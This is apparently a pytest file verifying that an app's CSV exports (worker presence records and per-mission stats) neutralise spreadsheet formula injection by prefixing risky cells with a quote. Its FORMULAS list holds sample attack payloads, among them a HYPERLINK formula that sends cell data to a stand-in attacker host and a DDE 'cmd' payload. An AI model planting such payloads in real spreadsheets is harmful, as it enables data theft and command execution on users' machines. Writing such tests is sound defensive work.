"""CSV files the app writes never carry a cell a spreadsheet would run as a formula."""
import csv
import io
import json

import pytest
from sqlalchemy import select

from app.extensions import db
from app.missions.models import Mission

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "@SUM(1+1)", "-2+3*cmd|' /C calc'!A0", "+1+1"]


def _export_csv(runner) -> list[dict]:
    result = runner.invoke(args=["integration", "export-presence", "--since", "2000-01-01", "--format", "csv"])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_export_csv_neutralises_cells_that_start_a_formula(runner, create_worker):
    worker = create_worker(full_name=FORMULAS[0], address=FORMULAS[1], employer_name=FORMULAS[2])
    [row] = _export_csv(runner)
    assert row["full_name"] == "'" + FORMULAS[0]
    assert row["address"] == "'" + FORMULAS[1]
    assert row["employer_name"] == "'" + FORMULAS[2]
    # the phone keeps its digits and plus sign, behind the quote a spreadsheet shows as text
    assert row["phone"] == "'" + worker.phone
    assert row["passport_number"] == "X7654321" and row["country"] == "MY"


def test_export_csv_neutralises_a_leading_tab_or_carriage_return(runner, create_worker):
    create_worker(full_name="\t=cmd")
    create_worker(full_name="\r=cmd")
    assert {row["full_name"] for row in _export_csv(runner)} == {"'\t=cmd", "'\r=cmd"}


def test_export_jsonl_keeps_the_values_as_given(runner, create_worker):
    create_worker(full_name=FORMULAS[0])
    result = runner.invoke(args=["integration", "export-presence", "--since", "2000-01-01"])
    assert json.loads(result.stdout)["full_name"] == FORMULAS[0]


@pytest.fixture
def mission_named_like_a_formula():
    """KJRI Kota Kinabalu, renamed for one test (missions are reference data kept between tests)."""
    mission = db.session.scalar(select(Mission).where(Mission.code == "KJRI-KOTAKINABALU"))
    old = mission.name_id, mission.name_en
    mission.name_id = mission.name_en = FORMULAS[3]
    db.session.commit()
    yield
    mission = db.session.scalar(select(Mission).where(Mission.code == "KJRI-KOTAKINABALU"))
    mission.name_id, mission.name_en = old
    db.session.commit()


def test_stats_csv_neutralises_cells_that_start_a_formula(mission_named_like_a_formula, create_worker, create_user,
                                                         login_client):
    create_worker()
    staff = create_user(role="staff", mission="KJRI-KOTAKINABALU")
    response = login_client(staff).get("/console/stats.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text)))
    labels = {row[2] for row in rows if row[0] == "mission"}
    assert labels == {"'" + FORMULAS[3]}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
